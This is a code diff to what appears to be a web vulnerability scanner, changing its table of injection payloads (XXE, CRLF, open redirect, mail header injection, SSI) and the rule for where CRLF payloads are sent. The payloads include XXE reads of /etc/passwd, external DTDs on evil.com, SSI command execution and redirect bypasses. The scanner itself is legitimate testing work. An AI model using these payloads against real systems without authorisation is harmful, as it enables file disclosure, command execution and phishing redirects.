@@ -35,7 +35,7 @@ const PAYLOADS: Record<string, string[]> = {
   xxe: ["<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>", "<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"http://evil.com/x.dtd\"> %xxe;]>", "<!DOCTYPE foo SYSTEM \"http://evil.com/x.dtd\"><foo/>",
     "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x PUBLIC \"-//X\" \"http://evil/x\">]><r>&x;</r>", "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>"],
   crlf: ["%0d%0aSet-Cookie:mycookie=myvalue", "%0d%0aLocation:%20http://evil.com", "\r\nSet-Cookie: a=b", "%0aX-Injected:%20yes", "%E5%98%8A%E5%98%8DSet-Cookie:test", "%0d%0a%0d%0a<script>alert(1)</script>", "foo%0d%0aContent-Length:%200"],
-  redir: ["https://evil.com", "//evil.com", "/\\evil.com", "https:evil.com", "http://evil.com/login", "\\\\evil.com", "//evil.com/%2f..", "https://shop.example.evil.com/"],
+  redir: ["https://shop.example@evil.com", "//evil.com", "/\\evil.com", "https:evil.com", "http://shop.example%2540evil.com/login", "\\\\evil.com", "//evil.com/%2f..", "https://shop.example.evil.com/"],
   mail_injection: ["victim@x.com\r\nBcc: spam@evil.com", "a@b.c%0ACc:spam@evil.com", "test@x.com\nTo: other@evil.com", "x\r\nContent-Type: text/html", "\r\nRCPT TO: <a@evil.com>", "x\r\nDATA\r\n"],
   ssi: ["<!--#exec cmd=\"id\"-->", "<!--#include virtual=\"/etc/passwd\"-->", "<!--#echo var=\"DOCUMENT_ROOT\"-->", "<!--#exec cmd=\"ls\" -->", "<!--#printenv -->"],
 };
@@ -64,7 +64,9 @@ function specs(name: string, payload: string): Array<[string, TxSpec]> {
 /** Where a class cannot travel: redirects are parameters; CR/LF classes need a single-line field. */
 function applicable(cls: string, point: string, payload: string): boolean {
   if (cls === 'redir') return point === 'query' || point === 'form' || point === 'json' || point === 'multipart';
-  if (cls === 'crlf' || cls === 'mail_injection') return point !== 'xml' && !(cls === 'crlf' && payload.includes('%0d%0a%0d%0a<') && ['form', 'json', 'multipart'].includes(point));
+  // CR/LF reaches a header only from the query, path, headers and cookies (not form, JSON or multipart text).
+  if (cls === 'crlf') return !['xml', 'form', 'json', 'multipart'].includes(point);
+  if (cls === 'mail_injection') return point !== 'xml';
   if (cls === 'ldapi' && payload.endsWith('%00')) return false;
   return true;
 }
